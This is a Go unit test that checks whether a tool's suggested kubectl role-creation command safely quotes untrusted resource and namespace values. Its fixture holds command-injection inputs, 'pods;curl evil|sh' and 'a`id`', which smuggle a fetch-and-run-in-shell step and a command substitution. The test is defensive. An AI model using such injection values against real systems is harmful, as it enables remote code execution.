package main

import (
	"strings"
	"testing"

	"github.com/listwatch/listwatch/cmd/listwatch/internal/auth"
)

// TestSuggestedCommandsAreQuoted: what others wrote is one word of a command that a
// person copies.
func TestSuggestedCommandsAreQuoted(t *testing.T) {
	r := auth.Right{Resource: "pods;curl evil|sh", Namespace: "a`id`", Namespaced: true}
	const want = "\"kubectl create role NAME -n 'a`id`' --verb=list,watch '--resource=pods;curl evil|sh'\""
	if got := r.Remedy(); !strings.Contains(got, want) {
		t.Errorf("got %s, want %s", got, want)
	}
}
